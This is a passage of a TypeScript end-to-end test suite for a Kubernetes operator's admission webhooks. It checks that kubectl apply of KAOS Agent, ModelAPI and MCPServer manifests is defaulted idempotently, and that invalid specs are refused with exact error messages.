// End-to-end admission: the real kubectl against a real kube-apiserver with kaos-operator's
// webhooks registered (scripts/local-stack.ts: CRDs from crds/, webhook configurations from the
// operator's own renderer, the operator started as `node dist/main.js`). Every subtest asserts
// what a user sees — kubectl's exit code, stdout and stderr, whole — and works in namespaces of
// its own, so subtests do not depend on each other.
//
// Run `npm run build` first: the operator process is dist/main.js.
import t, { type Test } from 'tap';
import { fileURLToPath } from 'node:url';
import { startLocalStack, tail, type LocalStack } from '../../scripts/local-stack.ts';
import type { KubectlResult } from '../cluster/control-plane.ts';
import { ApiError } from '../../src/kube/errors.ts';

type Json = Record<string, unknown>;
type Kind = 'Agent' | 'ModelAPI' | 'MCPServer';

// The operator runs with images and a model name of its own, so every default below is provably
// the configured one (api.md §6) and not a hard-coded fallback.
const IMAGES = {
  agent: 'e2e.local/kaos-agent:e2e',
  mcpServer: 'e2e.local/kaos-mcp-tools:e2e',
  mcpPython: 'e2e.local/python:3.12-slim',
  mcpNode: 'e2e.local/node:22-slim',
  litellm: 'e2e.local/litellm:e2e',
  ollama: 'e2e.local/ollama:e2e',
} as const;
const DEFAULT_MODEL = 'e2e-default-model:1b';
const OPERATOR_ENV = {
  DEFAULT_AGENT_IMAGE: IMAGES.agent,
  DEFAULT_MCP_SERVER_IMAGE: IMAGES.mcpServer,
  DEFAULT_MCP_PYTHON_IMAGE: IMAGES.mcpPython,
  DEFAULT_MCP_NODE_IMAGE: IMAGES.mcpNode,
  DEFAULT_LITELLM_IMAGE: IMAGES.litellm,
  DEFAULT_OLLAMA_IMAGE: IMAGES.ollama,
  DEFAULT_MODEL_NAME: DEFAULT_MODEL,
};

const SAMPLES = fileURLToPath(new URL('../fixtures/samples/', import.meta.url));
const DEFAULTED = 'kaos.tools/defaulted';
const LAST_APPLIED = 'kubectl.kubernetes.io/last-applied-configuration';
const RESOURCE: Readonly<Record<Kind, string>> = { Agent: 'agents', ModelAPI: 'modelapis', MCPServer: 'mcpservers' };

// ---- the shared stack -------------------------------------------------------------------------

let stack: LocalStack | undefined;
const stackLog: string[] = [];

t.before(async () => {
  try {
    stack = await startLocalStack({ log: (line) => stackLog.push(line), operatorEnv: OPERATOR_ENV });
  } catch (err) {
    throw new Error(
      `the local stack (control plane + kaos-operator) did not start; e2e admission tests need it:\n` +
        `${err instanceof Error ? err.message : String(err)}\n--- stack log ---\n${stackLog.join('\n')}`,
    );
  }
});

t.teardown(async () => {
  if (stack === undefined) return;
  if (!t.passing()) {
    process.stderr.write(`--- stack log ---\n${stackLog.join('\n')}\n--- operator log (tail) ---\n${tail(stack.operator.log(), 40)}\n`);
  }
  await stack.stop();
});

// ---- helpers ----------------------------------------------------------------------------------

async function kubectl(args: readonly string[], input?: string): Promise<KubectlResult> {
  if (stack === undefined) throw new Error('no local stack: it failed to start (see the error before this one)');
  return stack.plane.kubectl(args, input === undefined ? {} : { input });
}

const kaos = (kind: Kind, name: string, spec: Json, metadata: Json = {}): Json => ({
  apiVersion: 'kaos.tools/v1alpha1',
  kind,
  metadata: { name, ...metadata },
  spec,
});

const namespaceObject = (name: string, labels?: Record<string, string>): Json => ({
  apiVersion: 'v1',
  kind: 'Namespace',
  metadata: labels === undefined ? { name } : { name, labels },
});

/** A multi-document manifest. JSON documents (valid YAML) so no value is ever re-typed by YAML 1.1. */
const manifest = (objects: readonly Json[]): string => objects.map((o) => JSON.stringify(o, null, 2)).join('\n---\n') + '\n';

const nameOf = (o: Json): string => String((o.metadata as Json).name);
const kindOf = (o: Json): string => String(o.kind);

/** `kubectl apply -n ns -f -` of the objects. */
const apply = (ns: string, objects: readonly Json[], extra: readonly string[] = []): Promise<KubectlResult> =>
  kubectl(['apply', '-n', ns, '-f', '-', ...extra], manifest(objects));

const lines = (...l: string[]): string => l.map((s) => `${s}\n`).join('');
const warnings = (...w: string[]): string => lines(...w.map((s) => `Warning: ${s}`));
const created = (objects: readonly Json[], suffix = ''): string =>
  lines(...objects.map((o) => `${kindOf(o).toLowerCase()}.kaos.tools/${nameOf(o)} created${suffix}`));

/**
 * What kubectl prints when the only failure of a command is one object refused with 422 Invalid,
 * whether by the API server's own validation or by a webhook (which then carries the same causes):
 * one error inline, several as a bulleted list after "is invalid: " (with kubectl's trailing space).
 */
function invalid(kind: Kind, name: string, errors: readonly string[]): string {
  if (errors.length === 1) return `The ${kind} "${name}" is invalid: ${errors[0]}\n`;
  return `The ${kind} "${name}" is invalid: \n${errors.map((e) => `* ${e}\n`).join('')}`;
}

/** Creates a namespace (with labels, in one request) and the objects it needs; asserts success. */
async function setup(t: Test, ns: string, objects: readonly Json[] = [], labels?: Record<string, string>): Promise<void> {
  const res = await kubectl(['apply', '-f', '-'], manifest([namespaceObject(ns, labels)]));
  t.strictSame(res, { code: 0, stdout: `namespace/${ns} created\n`, stderr: '' }, `namespace ${ns}`);
  if (objects.length > 0) {
    const made = await apply(ns, objects);
    t.strictSame(made, { code: 0, stdout: created(objects), stderr: made.stderr }, `setup objects in ${ns}`);
  }
}

/** Stored object (kubectl get -o json), or undefined when it does not exist. */
async function get(ns: string, kind: Kind, name: string): Promise<Json | undefined> {
  const res = await kubectl(['get', `${RESOURCE[kind]}.kaos.tools/${name}`, '-n', ns, '-o', 'json', '--ignore-not-found']);
  if (res.code !== 0) throw new Error(`kubectl get ${kind} ${ns}/${name}: ${res.stderr}`);
  return res.stdout.trim() === '' ? undefined : (JSON.parse(res.stdout) as Json);
}

async function resourceVersions(ns: string): Promise<string> {
  const res = await kubectl([
    'get', 'agents,modelapis,mcpservers', '-n', ns, '-o',
    'jsonpath={range .items[*]}{.kind}/{.metadata.name}={.metadata.resourceVersion} {end}',
  ]);
  if (res.code !== 0) throw new Error(res.stderr);
  return res.stdout;
}

/**
 * The object is refused with exactly `stderr`, both with --dry-run=server and for real (a dry run
 * is judged exactly like the real request), and nothing is stored.
 */
async function expectDenied(t: Test, ns: string, object: Json, stderr: string, what: string): Promise<void> {
  const dry = await apply(ns, [object], ['--dry-run=server']);
  t.strictSame(dry, { code: 1, stdout: '', stderr }, `${what} (--dry-run=server)`);
  const real = await apply(ns, [object]);
  t.strictSame(real, { code: 1, stdout: '', stderr }, what);
  t.equal(await get(ns, kindOf(object) as Kind, nameOf(object)), undefined, `${what}: nothing stored`);
}

const podSpecOf = (o: Json | undefined): Json => ((o?.spec as Json | undefined) ?? {});
const annotationsOf = (o: Json | undefined): Record<string, string> =>
  (((o?.metadata as Json | undefined)?.annotations as Record<string, string> | undefined) ?? {});
const withoutLastApplied = (a: Record<string, string>): Record<string, string> => {
  const { [LAST_APPLIED]: _dropped, ...rest } = a;
  return rest;
};

// Objects used by many subtests.
const hostedModel = (name: string, model = 'qwen2:0.5b'): Json => kaos('ModelAPI', name, { mode: 'Hosted', hostedConfig: { model } });
const pythonTools = (name: string): Json =>
  kaos('MCPServer', name, { type: 'python-runtime', config: { tools: { fromPackage: 'mcp-server-fetch' } } });
const agent = (name: string, spec: Json, metadata: Json = {}): Json => kaos('Agent', name, spec, metadata);

// ---- the KAOS samples -------------------------------------------------------------------------

t.test('kubectl apply -f of each KAOS sample succeeds; applying it again changes nothing', async (t) => {
  const cases: Array<{ file: string; ns: string; objects: string[]; warnings: string }> = [
    {
      file: '1-simple-echo-agent.yaml',
      ns: 'kaos-simple',
      objects: ['modelapi.kaos.tools/simple-modelapi', 'mcpserver.kaos.tools/simple-echo-mcp', 'agent.kaos.tools/simple-agent'],
      warnings: '',
    },
    {
      file: '2-multi-agent-mcp.yaml',
      ns: 'kaos-multi',
      objects: [
        'modelapi.kaos.tools/multi-modelapi',
        'mcpserver.kaos.tools/multi-echo-mcp',
        'agent.kaos.tools/coordinator',
        'agent.kaos.tools/worker-1',
        'agent.kaos.tools/worker-2',
      ],
      // The coordinator comes before its workers: its peers are only a warning.
      warnings: warnings(
        'spec.agentNetwork.access[0]: Agent "worker-1" does not exist yet; it is wired in once it does',
        'spec.agentNetwork.access[1]: Agent "worker-2" does not exist yet; it is wired in once it does',
      ),
    },
    {
      file: '4-dev-ollama-proxy-agent.yaml',
      ns: 'kaos-dev',
      objects: ['modelapi.kaos.tools/dev-ollama-proxy', 'mcpserver.kaos.tools/dev-echo-mcp', 'agent.kaos.tools/dev-agent'],
      warnings: '',
    },
  ];
  for (const c of cases) {
    t.test(c.file, async (t) => {
      const path = SAMPLES + c.file;
      const first = await kubectl(['apply', '-f', path]);
      t.strictSame(first, { code: 0, stdout: lines(`namespace/${c.ns} created`, ...c.objects.map((o) => `${o} created`)), stderr: c.warnings });

      const before = await resourceVersions(c.ns);
      const again = await kubectl(['apply', '-f', path]);
      t.strictSame(again, { code: 0, stdout: lines(`namespace/${c.ns} unchanged`, ...c.objects.map((o) => `${o} unchanged`)), stderr: '' });
      t.equal(await resourceVersions(c.ns), before, 'no resourceVersion changed');

      const diff = await kubectl(['diff', '-f', path]);
      t.strictSame(diff, { code: 0, stdout: '', stderr: '' }, 'kubectl diff (server-side dry run through the webhooks) shows nothing');
    });
  }

  t.test('what the webhooks stored for sample 1: images defaulted, the user\'s values untouched', async (t) => {
    const ns = 'kaos-simple';
    const modelAPI = await get(ns, 'ModelAPI', 'simple-modelapi');
    t.strictSame(podSpecOf(modelAPI), {
      mode: 'Hosted',
      hostedConfig: { model: 'smollm2:135m', env: [{ name: 'OLLAMA_DEBUG', value: 'false' }] },
      container: { image: IMAGES.ollama },
    });
    t.equal(annotationsOf(modelAPI)[DEFAULTED], 'spec.container.image');
    const mcp = await get(ns, 'MCPServer', 'simple-echo-mcp');
    t.strictSame(podSpecOf(mcp), {
      type: 'python-runtime',
      config: { tools: { fromPackage: 'test-mcp-echo-server' }, env: [{ name: 'LOG_LEVEL', value: 'INFO' }] },
      container: { image: IMAGES.mcpPython },
    });
    t.equal(annotationsOf(mcp)[DEFAULTED], 'spec.container.image');
    const a = await get(ns, 'Agent', 'simple-agent');
    t.strictSame(podSpecOf(a), {
      modelAPI: 'simple-modelapi',
      mcpServers: ['simple-echo-mcp'],
      config: {
        description: 'A simple echo agent for testing',
        instructions:
          'You are a helpful assistant with access to an echo tool.\n' +
          'When asked to echo something, use the echo tool to return the message.\n' +
          'Always provide clear and concise responses.\n',
        reasoningLoopMaxSteps: 5,
        env: [{ name: 'MODEL_NAME', value: 'smollm2:135m' }],
      },
      agentNetwork: { access: [], expose: true },
      waitForDependencies: true,
      container: { image: IMAGES.agent },
    });
    t.equal(annotationsOf(a)[DEFAULTED], 'spec.container.image', 'MODEL_NAME was the user\'s, so only the image is recorded');
  });
});

// ---- defaults ---------------------------------------------------------------------------------

t.test('server-side dry run shows every default and stores nothing', async (t) => {
  const ns = 'defaults';
  await setup(t, ns, [
    hostedModel('hosted', 'qwen2:0.5b'),
    kaos('ModelAPI', 'proxy', { mode: 'Proxy', proxyConfig: { apiBase: 'http://ollama:11434', model: 'ollama/llama3.2' } }),
    kaos('ModelAPI', 'wildcard', { mode: 'Proxy', proxyConfig: { apiBase: 'http://ollama:11434' } }),
  ]);

  const fromSecret = { name: 'tools', key: 'tools.py' };
  const objects: Json[] = [
    agent('bare', { modelAPI: 'hosted' }),
    agent('with-memory', { modelAPI: 'hosted', config: { memory: {} } }),
    agent('on-proxy', { modelAPI: 'proxy', config: { description: 'd' } }),
    agent('on-wildcard', { modelAPI: 'wildcard' }),
    agent('on-missing', { modelAPI: 'not-yet' }, { annotations: { 'kaos.tools/reference-policy': 'Warn' } }),
    agent('all-set', {
      modelAPI: 'hosted',
      waitForDependencies: false,
      agentNetwork: { expose: false },
      config: { reasoningLoopMaxSteps: 7, memory: { contextLimit: 20 }, env: [{ name: 'MODEL_NAME', value: 'my-model' }] },
      container: { image: 'me/agent:1' },
    }),
    kaos('ModelAPI', 'm-hosted', { mode: 'Hosted', hostedConfig: { model: 'smollm2:135m' } }),
    kaos('ModelAPI', 'm-proxy', { mode: 'Proxy', proxyConfig: { model: 'gpt-4o' } }),
    kaos('MCPServer', 's-py-package', { type: 'python-runtime', config: { tools: { fromPackage: 'mcp-server-fetch==1.2.0' } } }),
    kaos('MCPServer', 's-node-package', { type: 'node-runtime', config: { tools: { fromPackage: '@modelcontextprotocol/server-everything' } } }),
    kaos('MCPServer', 's-py-string', { type: 'python-runtime', config: { tools: { fromString: 'def echo(x):\n    return x\n' } } }),
    kaos('MCPServer', 's-py-secret', { type: 'python-runtime', config: { tools: { fromSecretKeyRef: fromSecret } } }),
  ];

  const res = await apply(ns, objects, ['--dry-run=server', '-o', 'json']);
  t.equal(res.code, 0, 'dry-run apply succeeds');
  t.equal(
    res.stderr,
    warnings(
      `spec.config.env[MODEL_NAME] defaulted to "${DEFAULT_MODEL}": ModelAPI "wildcard" names no model`,
      'spec.modelAPI: Not found: "not-yet" (allowed: reference policy Warn)',
      'ModelAPI "hosted" is not ready; with waitForDependencies false the Agent starts without it',
    ),
    'warnings: a ModelAPI without a model, a missing ModelAPI under Warn, a dependency not ready',
  );
  const list = JSON.parse(res.stdout) as { kind: string; items: Json[] };
  t.equal(list.kind, 'List');
  const byName = new Map(list.items.map((o) => [nameOf(o), o]));
  t.strictSame([...byName.keys()], objects.map(nameOf), 'one object back per document');

  const modelEnv = (value: string) => [{ name: 'MODEL_NAME', value }];
  const agentDefaults = { agentNetwork: { expose: true }, waitForDependencies: true, container: { image: IMAGES.agent } };
  const expected: Record<string, { spec: Json; defaulted: string | undefined; annotations?: Record<string, string> }> = {
    bare: {
      spec: { modelAPI: 'hosted', ...agentDefaults, config: { env: modelEnv('qwen2:0.5b'), reasoningLoopMaxSteps: 5 } },
      defaulted: 'spec.config.env[MODEL_NAME],spec.container.image',
    },
    'with-memory': {
      spec: {
        modelAPI: 'hosted',
        ...agentDefaults,
        config: {
          env: modelEnv('qwen2:0.5b'),
          reasoningLoopMaxSteps: 5,
          memory: { enabled: true, type: 'local', contextLimit: 6, maxSessions: 1000, maxSessionEvents: 500 },
        },
      },
      defaulted: 'spec.config.env[MODEL_NAME],spec.container.image',
    },
    'on-proxy': {
      spec: { modelAPI: 'proxy', ...agentDefaults, config: { description: 'd', env: modelEnv('ollama/llama3.2'), reasoningLoopMaxSteps: 5 } },
      defaulted: 'spec.config.env[MODEL_NAME],spec.container.image',
    },
    'on-wildcard': {
      spec: { modelAPI: 'wildcard', ...agentDefaults, config: { env: modelEnv(DEFAULT_MODEL), reasoningLoopMaxSteps: 5 } },
      defaulted: 'spec.config.env[MODEL_NAME],spec.container.image',
    },
    'on-missing': {
      spec: { modelAPI: 'not-yet', ...agentDefaults, config: { env: modelEnv(DEFAULT_MODEL), reasoningLoopMaxSteps: 5 } },
      defaulted: 'spec.config.env[MODEL_NAME],spec.container.image',
      annotations: { 'kaos.tools/reference-policy': 'Warn' },
    },
    'all-set': {
      spec: {
        modelAPI: 'hosted',
        waitForDependencies: false,
        agentNetwork: { expose: false },
        config: {
          reasoningLoopMaxSteps: 7,
          memory: { enabled: true, type: 'local', contextLimit: 20, maxSessions: 1000, maxSessionEvents: 500 },
          env: modelEnv('my-model'),
        },
        container: { image: 'me/agent:1' },
      },
      defaulted: undefined,
    },
    'm-hosted': { spec: { mode: 'Hosted', hostedConfig: { model: 'smollm2:135m' }, container: { image: IMAGES.ollama } }, defaulted: 'spec.container.image' },
    'm-proxy': { spec: { mode: 'Proxy', proxyConfig: { model: 'gpt-4o' }, container: { image: IMAGES.litellm } }, defaulted: 'spec.container.image' },
    's-py-package': {
      spec: { type: 'python-runtime', config: { tools: { fromPackage: 'mcp-server-fetch==1.2.0' } }, container: { image: IMAGES.mcpPython } },
      defaulted: 'spec.container.image',
    },
    's-node-package': {
      spec: { type: 'node-runtime', config: { tools: { fromPackage: '@modelcontextprotocol/server-everything' } }, container: { image: IMAGES.mcpNode } },
      defaulted: 'spec.container.image',
    },
    's-py-string': {
      spec: { type: 'python-runtime', config: { tools: { fromString: 'def echo(x):\n    return x\n' } }, container: { image: IMAGES.mcpServer } },
      defaulted: 'spec.container.image',
    },
    's-py-secret': {
      spec: { type: 'python-runtime', config: { tools: { fromSecretKeyRef: fromSecret } }, container: { image: IMAGES.mcpServer } },
      defaulted: 'spec.container.image',
    },
  };
  const pendingStatus = {
    conditions: [
      {
        type: 'Ready',
        status: 'Unknown',
        reason: 'Pending',
        message: 'Waiting for kaos-operator to reconcile this object',
        lastTransitionTime: '1970-01-01T00:00:00Z',
      },
    ],
  };
  for (const [name, want] of Object.entries(expected)) {
    const got = byName.get(name);
    t.strictSame(podSpecOf(got), want.spec, `${name}: spec`);
    t.strictSame(
      withoutLastApplied(annotationsOf(got)),
      { ...want.annotations, ...(want.defaulted === undefined ? {} : { [DEFAULTED]: want.defaulted }) },
      `${name}: the ${DEFAULTED} annotation lists exactly the values the webhook chose`,
    );
    t.strictSame(got?.status, pendingStatus, `${name}: status is the schema's default, not the webhook's`);
  }

  const left = await kubectl(['get', 'agents,mcpservers', '-n', ns]);
  t.strictSame(left, { code: 0, stdout: '', stderr: `No resources found in ${ns} namespace.\n` }, 'no Agent or MCPServer stored');
  const models = await kubectl(['get', 'modelapis', '-n', ns, '-o', 'name']);
  t.strictSame(
    models,
    { code: 0, stdout: lines('modelapi.kaos.tools/hosted', 'modelapi.kaos.tools/proxy', 'modelapi.kaos.tools/wildcard'), stderr: '' },
    'only the ModelAPIs of the setup are stored',
  );
  const one = await kubectl(['get', 'agent', 'bare', '-n', ns]);
  t.strictSame(one, { code: 1, stdout: '', stderr: 'Error from server (NotFound): agents.kaos.tools "bare" not found\n' });
});

// ---- idempotence ------------------------------------------------------------------------------

t.test('defaulting is idempotent: re-apply is a no-op and a second webhook pass adds nothing', async (t) => {
  const objects = (ns: string): Json[] => [
    { ...hostedModel('llm'), metadata: { name: 'llm', namespace: ns } },
    { ...pythonTools('tools'), metadata: { name: 'tools', namespace: ns } },
    { ...agent('a1', { modelAPI: 'llm', mcpServers: ['tools'], config: { memory: {} } }), metadata: { name: 'a1', namespace: ns } },
  ];

  t.test('client-side apply', async (t) => {
    const ns = 'idempotent-csa';
    await setup(t, ns);
    const file = manifest(objects(ns));
    const first = await kubectl(['apply', '-f', '-'], file);
    t.strictSame(first, { code: 0, stdout: lines('modelapi.kaos.tools/llm created', 'mcpserver.kaos.tools/tools created', 'agent.kaos.tools/a1 created'), stderr: '' });
    const before = await resourceVersions(ns);
    const again = await kubectl(['apply', '-f', '-'], file);
    t.strictSame(again, { code: 0, stdout: lines('modelapi.kaos.tools/llm unchanged', 'mcpserver.kaos.tools/tools unchanged', 'agent.kaos.tools/a1 unchanged'), stderr: '' });
    t.equal(await resourceVersions(ns), before, 'no resourceVersion changed');

    // The stored object, sent back as a server-side dry-run UPDATE (PUT ?dryRun=All): the mutating
    // webhook sees its own output and must not change a thing.
    for (const [kind, name] of [['ModelAPI', 'llm'], ['MCPServer', 'tools'], ['Agent', 'a1']] as const) {
      const stored = await get(ns, kind, name);
      const res = await kubectl(
        ['replace', '--raw', `/apis/kaos.tools/v1alpha1/namespaces/${ns}/${RESOURCE[kind]}/${name}?dryRun=All`, '-f', '-'],
        JSON.stringify(stored),
      );
      t.equal(res.code, 0, `${kind} dry-run update accepted: ${res.stderr}`);
      const { managedFields: _m, ...metadata } = (JSON.parse(res.stdout) as Json).metadata as Json;
      const echoed = { ...(JSON.parse(res.stdout) as Json), metadata };
      t.strictSame(echoed, stored, `${kind}: a second pass returns the stored object unchanged (spec, annotations, resourceVersion)`);
    }
  });

  t.test('server-side apply', async (t) => {
    const ns = 'idempotent-ssa';
    await setup(t, ns);
    const file = manifest(objects(ns));
    const ssa = ['apply', '--server-side', '--field-manager=e2e', '-f', '-'];
    const out = lines('modelapi.kaos.tools/llm serverside-applied', 'mcpserver.kaos.tools/tools serverside-applied', 'agent.kaos.tools/a1 serverside-applied');
    t.strictSame(await kubectl(ssa, file), { code: 0, stdout: out, stderr: '' });
    const stored = await Promise.all((['ModelAPI', 'MCPServer', 'Agent'] as const).map((k) => get(ns, k, k === 'Agent' ? 'a1' : k === 'ModelAPI' ? 'llm' : 'tools')));
    t.strictSame(await kubectl(ssa, file), { code: 0, stdout: out, stderr: '' });
    const again = await Promise.all((['ModelAPI', 'MCPServer', 'Agent'] as const).map((k) => get(ns, k, k === 'Agent' ? 'a1' : k === 'ModelAPI' ? 'llm' : 'tools')));
    const stable = (o: Json | undefined) => ({ spec: o?.spec, annotations: annotationsOf(o), generation: (o?.metadata as Json | undefined)?.generation });
    t.strictSame(again.map(stable), stored.map(stable), 'the second server-side apply changes no spec, annotation or generation');
    // The CRDs default `status` (api.md §1) and the API server drops status on create, so the
    // first write after a create persists the defaulted status and moves resourceVersion once,
    // whatever the webhooks do. From then on a server-side apply is a complete no-op.
    const before = await resourceVersions(ns);
    t.strictSame(await kubectl(ssa, file), { code: 0, stdout: out, stderr: '' });
    t.equal(await resourceVersions(ns), before, 'a further server-side apply changes nothing, not even resourceVersion');
    const a1 = await get(ns, 'Agent', 'a1');
    t.strictSame(
      (podSpecOf(a1).config as Json).env,
      [{ name: 'MODEL_NAME', value: 'qwen2:0.5b' }],
      'MODEL_NAME survives server-side apply of a manifest that omits it',
    );
    t.equal(annotationsOf(a1)[DEFAULTED], 'spec.config.env[MODEL_NAME],spec.container.image');
  });
});

t.test('defaulted values follow their source; values the user wrote are never overwritten', async (t) => {
  const ns = 'rederive';
  await setup(t, ns, [
    hostedModel('hosted', 'qwen2:0.5b'),
    kaos('ModelAPI', 'proxy', { mode: 'Proxy', proxyConfig: { model: 'ollama/llama3.2' } }),
    agent('ours', { modelAPI: 'hosted' }),
    agent('theirs', { modelAPI: 'hosted', config: { env: [{ name: 'MODEL_NAME', value: 'my-model' }] } }),
    hostedModel('switch', 'smollm2:135m'),
  ]);
  const modelName = async (name: string): Promise<unknown> => ((podSpecOf(await get(ns, 'Agent', name)).config as Json).env as Json[])[0];
  const toProxy = JSON.stringify({ spec: { modelAPI: 'proxy' } });

  t.strictSame(await kubectl(['patch', 'agent', 'ours', '-n', ns, '--type=merge', '-p', toProxy]), { code: 0, stdout: 'agent.kaos.tools/ours patched\n', stderr: '' });
  t.strictSame(await modelName('ours'), { name: 'MODEL_NAME', value: 'ollama/llama3.2' }, 'a defaulted MODEL_NAME follows a new modelAPI');

  t.strictSame(await kubectl(['patch', 'agent', 'theirs', '-n', ns, '--type=merge', '-p', toProxy]), { code: 0, stdout: 'agent.kaos.tools/theirs patched\n', stderr: '' });
  t.strictSame(await modelName('theirs'), { name: 'MODEL_NAME', value: 'my-model' }, 'the user\'s MODEL_NAME stays');

  const toProxyMode = JSON.stringify({ spec: { mode: 'Proxy', hostedConfig: null, proxyConfig: { model: 'gpt-4o' } } });
  t.strictSame(await kubectl(['patch', 'modelapi', 'switch', '-n', ns, '--type=merge', '-p', toProxyMode]), { code: 0, stdout: 'modelapi.kaos.tools/switch patched\n', stderr: '' });
  t.strictSame(podSpecOf(await get(ns, 'ModelAPI', 'switch')).container, { image: IMAGES.litellm }, 'a defaulted image follows a mode change');
});

// ---- denials, one rule family each ------------------------------------------------------------

t.test('denied: a missing ModelAPI', async (t) => {
  const ns = 'deny-modelapi';
  await setup(t, ns);
  await expectDenied(t, ns, agent('a1', { modelAPI: 'gpt' }), invalid('Agent', 'a1', ['spec.modelAPI: Not found: "gpt"']), 'Agent naming a ModelAPI that does not exist');
});

t.test('denied: a missing MCPServer', async (t) => {
  const ns = 'deny-mcpserver';
  await setup(t, ns, [hostedModel('llm'), pythonTools('tools')]);
  await expectDenied(
    t, ns,
    agent('a1', { modelAPI: 'llm', mcpServers: ['tools', 'search'] }),
    invalid('Agent', 'a1', ['spec.mcpServers[1]: Not found: "search"']),
    'Agent naming an MCPServer that does not exist',
  );
});

t.test('denied: an agent listing itself in access', async (t) => {
  const ns = 'deny-self';
  await setup(t, ns, [hostedModel('llm')]);
  await expectDenied(
    t, ns,
    agent('a1', { modelAPI: 'llm', agentNetwork: { access: ['a1'] } }),
    invalid('Agent', 'a1', ['spec.agentNetwork.access[0]: Invalid value: "a1": an agent cannot list itself']),
    'self-reference',
  );
});

t.test('denied: duplicate names in mcpServers and access', async (t) => {
  const ns = 'deny-duplicates';
  await setup(t, ns, [hostedModel('llm'), pythonTools('tools'), agent('helper', { modelAPI: 'llm' })]);
  await expectDenied(
    t, ns,
    agent('a1', { modelAPI: 'llm', mcpServers: ['tools', 'tools'], agentNetwork: { access: ['helper', 'helper'] } }),
    invalid('Agent', 'a1', ['spec.mcpServers[1]: Duplicate value: "tools"', 'spec.agentNetwork.access[1]: Duplicate value: "helper"']),
    'duplicates',
  );
});

t.test('denied: an invalid mode', async (t) => {
  const ns = 'deny-mode';
  await setup(t, ns);
  // The CRD's enum: refused by the API server's schema validation, in the same words.
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm1', { mode: 'Local', hostedConfig: { model: 'x' } }),
    invalid('ModelAPI', 'm1', ['spec.mode: Unsupported value: "Local": supported values: "Hosted", "Proxy"']),
    'mode Local',
  );
});

t.test('denied: Proxy without a usable proxyConfig', async (t) => {
  const ns = 'deny-proxy';
  await setup(t, ns);
  await expectDenied(t, ns, kaos('ModelAPI', 'm1', { mode: 'Proxy' }), invalid('ModelAPI', 'm1', ['spec.proxyConfig: Required value: required when mode is Proxy']), 'no proxyConfig');
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm2', { mode: 'Proxy', proxyConfig: { env: [{ name: 'OPENAI_API_KEY', value: 'sk-test' }] } }),
    invalid('ModelAPI', 'm2', ['spec.proxyConfig: Required value: must specify at least one of apiBase, model, configYaml']),
    'proxyConfig without apiBase, model or configYaml',
  );
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm3', { mode: 'Proxy', proxyConfig: { apiBase: 'host.docker.internal:11434' } }),
    invalid('ModelAPI', 'm3', ['spec.proxyConfig.apiBase: Invalid value: "host.docker.internal:11434": must be an http or https URL']),
    'apiBase without a scheme',
  );
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm4', { mode: 'Proxy', proxyConfig: { model: 'gpt-4o' }, hostedConfig: { model: 'smollm2:135m' } }),
    invalid('ModelAPI', 'm4', ['spec.hostedConfig: Forbidden: may not be set when mode is Proxy']),
    'Proxy with a hostedConfig',
  );
});

t.test('denied: Hosted with a proxyConfig, or without a model', async (t) => {
  const ns = 'deny-hosted';
  await setup(t, ns);
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm1', { mode: 'Hosted', hostedConfig: { model: 'smollm2:135m' }, proxyConfig: { model: 'ollama/smollm2:135m' } }),
    invalid('ModelAPI', 'm1', ['spec.proxyConfig: Forbidden: may not be set when mode is Hosted']),
    'Hosted with proxyConfig',
  );
  await expectDenied(t, ns, kaos('ModelAPI', 'm2', { mode: 'Hosted' }), invalid('ModelAPI', 'm2', ['spec.hostedConfig.model: Required value: required when mode is Hosted']), 'Hosted without hostedConfig');
});

t.test('denied: configYaml with both fromString and fromSecretKeyRef, or neither', async (t) => {
  const ns = 'deny-configyaml';
  await setup(t, ns);
  const config = 'model_list:\n  - model_name: gpt\n    litellm_params:\n      model: ollama/smollm2:135m\n';
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm1', { mode: 'Proxy', proxyConfig: { configYaml: { fromString: config, fromSecretKeyRef: { name: 'litellm', key: 'config.yaml' } } } }),
    invalid('ModelAPI', 'm1', ['spec.proxyConfig.configYaml.fromSecretKeyRef: Forbidden: may not be set when fromString is set']),
    'both sources',
  );
  await expectDenied(
    t, ns,
    kaos('ModelAPI', 'm2', { mode: 'Proxy', proxyConfig: { configYaml: {} } }),
    invalid('ModelAPI', 'm2', ['spec.proxyConfig.configYaml: Required value: must specify exactly one of fromString, fromSecretKeyRef']),
    'neither source',
  );
});

t.test('denied: an inline LiteLLM config that is not valid YAML or has no usable model_list', async (t) => {
  const ns = 'deny-litellm';
  await setup(t, ns);
  const proxy = (name: string, fromString: string): Json => kaos('ModelAPI', name, { mode: 'Proxy', proxyConfig: { configYaml: { fromString } } });
  await expectDenied(
    t, ns,
    proxy('m1', 'model_list:\n  - model_name: gpt\n    model_name: gpt-4\n'),
    invalid('ModelAPI', 'm1', ['spec.proxyConfig.configYaml.fromString: Invalid value: must be valid YAML: Map keys must be unique at line 3, column 5']),
    'a YAML error, with its line',
  );
  await expectDenied(
    t, ns,
    proxy('m2', 'model_list:\n  - model_name: gpt\n\tlitellm_params: {}\n'),
    invalid('ModelAPI', 'm2', ['spec.proxyConfig.configYaml.fromString: Invalid value: must be valid YAML: Tabs are not allowed as indentation at line 3, column 1']),
    'a tab, with its line',
  );
  await expectDenied(
    t, ns,
    proxy('m3', 'model_list:\n  - litellm_params: {model: ollama/x}\n  - model_name: ok\n  - model_name: ""\n'),
    invalid('ModelAPI', 'm3', [
      'spec.proxyConfig.configYaml.fromString: Invalid value: model_list[0] must have a model_name',
      'spec.proxyConfig.configYaml.fromString: Invalid value: model_list[2] must have a model_name',
    ]),
    'entries without model_name',
  );
  await expectDenied(
    t, ns,
    proxy('m4', 'general_settings:\n  master_key: sk-1234\n'),
    invalid('ModelAPI', 'm4', ['spec.proxyConfig.configYaml.fromString: Invalid value: must contain a model_list list']),
    'no model_list (and the config, which may hold keys, is not echoed)',
  );
});

t.test('denied: an MCPServer with two tools sources, or none', async (t) => {
  const ns = 'deny-tools';
  await setup(t, ns);
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's1', { type: 'python-runtime', config: { tools: { fromPackage: 'mcp-server-fetch', fromString: 'def f():\n    pass\n' } } }),
    invalid('MCPServer', 's1', ['spec.config.tools.fromString: Forbidden: may not be set when fromPackage is set']),
    'two sources',
  );
  await expectDenied(
    t, ns,
    kaos('MCPServer', 's2', { type: 'python-runtime', config: { env: [{ name: 'LOG_LEVEL', value: 'INFO' }] } }),
